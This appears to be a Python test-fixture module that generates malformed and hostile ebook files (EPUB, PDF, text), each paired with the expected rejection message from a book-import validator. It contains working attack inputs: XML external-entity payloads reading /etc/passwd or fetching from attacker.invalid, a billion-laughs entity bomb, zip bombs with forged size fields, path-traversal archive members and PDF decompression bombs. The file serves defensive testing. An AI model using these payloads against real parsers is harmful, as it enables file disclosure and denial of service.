"""A corpus of bad and hostile inputs, each with the words its error must contain."""

from __future__ import annotations

import gzip
import os
import random
import struct
import zipfile
from pathlib import Path

from .makebooks import (
    Doc,
    Toc,
    blank_pdf,
    build_pdf,
    chapter_body,
    cyclic_outline,
    deep_outline,
    epub_files,
    form_pdf,
    lorem,
    outline_pdf_with,
    shared_content_pdf,
    simple_epub,
    write_zip,
    xhtml,
)

MIB = 1024 * 1024


def _patch_sizes(path: Path, member: str, *, file_size: int | None = None, compress_size: int | None = None, flags: int | None = None) -> None:
    """Rewrite a member's central-directory entry, as a crafted zip bomb would."""
    data = bytearray(path.read_bytes())
    name = member.encode()
    pos = 0
    while (pos := data.find(b"PK\x01\x02", pos)) >= 0:
        name_len = struct.unpack_from("<H", data, pos + 28)[0]
        if bytes(data[pos + 46 : pos + 46 + name_len]) == name:
            if flags is not None:
                struct.pack_into("<H", data, pos + 8, flags)
            if compress_size is not None:
                struct.pack_into("<I", data, pos + 20, compress_size)
            if file_size is not None:
                struct.pack_into("<I", data, pos + 24, file_size)
        pos += 4
    path.write_bytes(bytes(data))


def _epub_with(path: Path, *, replace: dict[str, bytes | str] | None = None, add: dict[str, bytes | str] | None = None, drop: tuple[str, ...] = ()) -> Path:
    docs = [Doc(f"c{i}", f"text/ch{i}.xhtml", chapter_body(i, f"Chapter {i}")) for i in (1, 2)]
    toc = [Toc(f"Chapter {i}", f"text/ch{i}.xhtml") for i in (1, 2)]
    files = epub_files(docs, toc)
    files.update(replace or {})
    files.update(add or {})
    for name in drop:
        files.pop(name, None)
    return write_zip(path, files)


_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + ']><package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata><title>&lol9;</title></metadata></package>'
)
_XXE_FILE = (
    '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>&xxe;</p></body></html>'
)
_XXE_HTTP = (
    '<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x SYSTEM "http://attacker.invalid/x">]>'
    '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">&x;</container>'
)
_PARAM = (
    '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>'
    '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>x</p></body></html>'
)
_DRM = (
    '<?xml version="1.0"?><encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" '
    'xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData>'
    '<enc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/>'
    '<enc:CipherData><enc:CipherReference URI="OEBPS/text/ch1.xhtml"/></enc:CipherData>'
    "</enc:EncryptedData></encryption>"
)


def build_corpus(d: Path) -> list[tuple[str, Path, str]]:
    """(case name, file, words the error sentence must contain)."""
    rng = random.Random(1234)
    d.mkdir(parents=True, exist_ok=True)
    cases: list[tuple[str, Path, str]] = []

    def add(name: str, path: Path, expect: str) -> None:
        cases.append((name, path, expect))

    for ext in ("epub", "pdf", "txt"):
        p = d / f"empty.{ext}"
        p.write_bytes(b"")
        add(f"zero-byte {ext}", p, "empty (0 bytes)")
    for ext in ("epub", "pdf", "bin"):
        p = d / f"random.{ext}"
        p.write_bytes(bytes(rng.getrandbits(8) for _ in range(20_000)))
        add(f"random bytes .{ext}", p, "not a book")
    p = d / "image.epub"
    p.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(200))
    add("PNG named .epub", p, "PNG image")
    p = d / "program.txt"
    p.write_bytes(b"\x7fELF\x02\x01\x01" + bytes(500))
    add("ELF named .txt", p, "a program")
    p = d / "book.mobi"
    p.write_bytes(bytes(60) + b"BOOKMOBI" + bytes(200))
    add("Kindle MOBI", p, "Kindle")
    p = d / "story.txt"
    p.write_bytes(gzip.compress(b"Chapter 1\n\nHello." * 100))
    add("gzip named .txt", p, "gzip")
    p = d / "nuls.txt"
    p.write_bytes(b"Chapter 1\n\n" + b"a\x00b\x00\x00\x00c" * 2000)
    add("NUL-riddled text", p, "not a book")
    p = d / "bad-bom.txt"
    p.write_bytes(b"\xff\xfe" + b"\x00\xd8" * 5)  # lone UTF-16 surrogates
    add("UTF-16 BOM with invalid text", p, "claims to be UTF-16")

    good = simple_epub(d / "good-template.epub")
    p = d / "truncated.epub"
    p.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
    add("truncated EPUB", p, "damaged EPUB")
    p = write_zip(d / "plain-zip.epub", {"readme.txt": "hello"})
    add("ZIP without container", p, "META-INF/container.xml")
    p = write_zip(d / "word.epub", {"[Content_Types].xml": "<x/>", "word/document.xml": "<x/>"})
    add("DOCX named .epub", p, "Word document")

    p = _epub_with(d / "ratio-bomb.epub", add={"OEBPS/text/pad.xhtml": b"\x00" * (3 * MIB)})
    add("zip bomb: compression ratio", p, "zip bomb")
    p = _epub_with(d / "entry-bomb.epub", add={"OEBPS/big.bin": b"x" * 1000})
    _patch_sizes(p, "OEBPS/big.bin", file_size=3_000_000_000)
    add("zip bomb: member size", p, "zip bomb")
    p = _epub_with(d / "total-bomb.epub", add={f"OEBPS/f{i}.bin": b"y" * 1000 for i in range(8)})
    for i in range(8):
        _patch_sizes(p, f"OEBPS/f{i}.bin", file_size=120 * MIB, compress_size=120 * MIB)
    add("zip bomb: total size", p, "zip bomb")
    p = _epub_with(d / "zip-password.epub")
    _patch_sizes(p, "OEBPS/text/ch1.xhtml", flags=0x1)
    add("password-protected ZIP", p, "password-protected")

    p = _epub_with(d / "laughs.epub", replace={"OEBPS/content.opf": _LAUGHS})
    add("billion laughs in the OPF", p, "XML bomb")
    p = _epub_with(d / "xxe-file.epub", replace={"OEBPS/text/ch1.xhtml": _XXE_FILE})
    add("external entity reading /etc/passwd", p, "outside files")
    wide = _XXE_FILE.replace('version="1.0"?>', 'version="1.0" encoding="UTF-16"?>').encode("utf-16-le")
    p = _epub_with(d / "xxe-utf16.epub", replace={"OEBPS/text/ch1.xhtml": wide})
    add("external entity in UTF-16 without a byte-order mark", p, "outside files")
    p = _epub_with(d / "xxe-http.epub", replace={"META-INF/container.xml": _XXE_HTTP})
    add("external entity fetching a URL", p, "outside files")
    p = _epub_with(d / "param-entity.epub", replace={"OEBPS/text/ch2.xhtml": _PARAM})
    add("external parameter entity", p, "outside files")
    p = _epub_with(d / "traversal.epub", add={"../../evil.xhtml": xhtml("<p>x</p>")})
    add("path traversal member", p, "path-traversal")
    p = _epub_with(d / "absolute.epub", add={"/etc/evil.xhtml": xhtml("<p>x</p>")})
    add("absolute member path", p, "path-traversal")
    p = _epub_with(d / "backslash.epub", add={"OEBPS\\text\\extra.xhtml": xhtml("<p>x</p>")})
    add("member named with Windows backslashes", p, "Windows backslashes")
    p = _epub_with(d / "backslash-traversal.epub", add={"..\\..\\evil.xhtml": xhtml("<p>x</p>")})
    add("traversal with backslashes", p, "path-traversal")
    p = _epub_with(d / "drm.epub", add={"META-INF/encryption.xml": _DRM})
    add("DRM-encrypted content", p, "DRM")

    p = _epub_with(d / "no-opf.epub", drop=("OEBPS/content.opf",))
    add("container points to a missing OPF", p, "EPUB")
    p = _epub_with(d / "garbage-opf.epub", replace={"OEBPS/content.opf": bytes(rng.getrandbits(8) for _ in range(3000))})
    add("garbage OPF", p, "EPUB")
    p = _epub_with(d / "missing-doc.epub", drop=("OEBPS/text/ch2.xhtml",))
    add("manifest lists a missing file", p, "EPUB")
    files = epub_files([Doc("c1", "text/ch1.xhtml", chapter_body(1, "One"), linear=False)], [])
    p = write_zip(d / "no-text.epub", files)
    add("EPUB with nothing in the reading order", p, "no readable text")

    p = d / "garbage.pdf"
    p.write_bytes(b"%PDF-1.7\n" + bytes(rng.getrandbits(8) for _ in range(5000)))
    add("PDF header then garbage", p, "PDF")
    src = build_pdf(d / "src.pdf", [("Chapter 1", 0, lorem(5))])
    p = d / "truncated.pdf"
    p.write_bytes(src.read_bytes()[:300])
    add("truncated PDF", p, "PDF")
    p = build_pdf(d / "password.pdf", [("Chapter 1", 0, lorem(5))], encrypt=("owner", "secret"))
    add("password-protected PDF", p, "password")
    p = blank_pdf(d / "scanned.pdf")
    add("PDF without a text layer", p, "OCR")
    p = shared_content_pdf(d / "shared-content.pdf")
    add("PDF pages drawing one huge shared content stream", p, "unpacks to an unreasonable size")
    p = form_pdf(d / "form-calls.pdf", calls=200, form_kib=1024)
    add("PDF pages drawing one form XObject hundreds of times", p, "unpacks to an unreasonable size")
    p = outline_pdf_with(d / "cyclic.pdf", cyclic_outline)
    add("cyclic PDF outline", p, "loops back")
    p = outline_pdf_with(d / "deep.pdf", deep_outline)
    add("deeply nested PDF outline", p, "nests deeper")

    p = d / "huge-line.txt"
    with open(p, "wb") as f:
        f.truncate(200 * MIB)  # sparse: 200 MB on paper, nothing on disk
    add("200 MB single-line text", p, "split it")
    p = d / "a-folder.epub"
    p.mkdir(exist_ok=True)
    add("a folder", p, "is a folder")
    add("a missing file", d / "does-not-exist.epub", "does not exist")
    os.remove(good)
    os.remove(src)
    return cases


# Checked by the corpus test itself: the list is long enough for the "at least 25".
MIN_CASES = 25


def zip_names(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as zf:
        return zf.namelist()
